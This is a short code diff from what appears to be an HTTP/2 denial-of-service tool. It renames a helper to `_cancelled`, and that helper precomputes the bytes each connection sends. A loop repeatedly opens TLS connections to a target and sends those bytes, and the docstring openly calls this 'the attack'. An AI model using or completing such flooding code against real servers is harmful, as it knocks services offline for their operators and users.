@@ -50,7 +50,7 @@ def kept(address: str, host: str, end: float) -> dict[str, int]:
     while time.monotonic() < end:
         with suppress(OSError), closing(_secured(address, host, "h2")) as wire:
             connections += 1
-            for lot in _given_up(host):
+            for lot in _cancelled(host):
                 wire.settimeout(SECONDS_TO_CONNECT)
                 wire.sendall(lot)
                 asked += STREAMS
@@ -142,7 +142,7 @@ def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Ite
 
 
 @cache
-def _given_up(host: str) -> list[bytes]:
+def _cancelled(host: str) -> list[bytes]:
     """Return the bytes that one connection sends. They are created once, so that the attack itself costs little."""
     connection, lots = h2.connection.H2Connection(), []
     connection.initiate_connection()
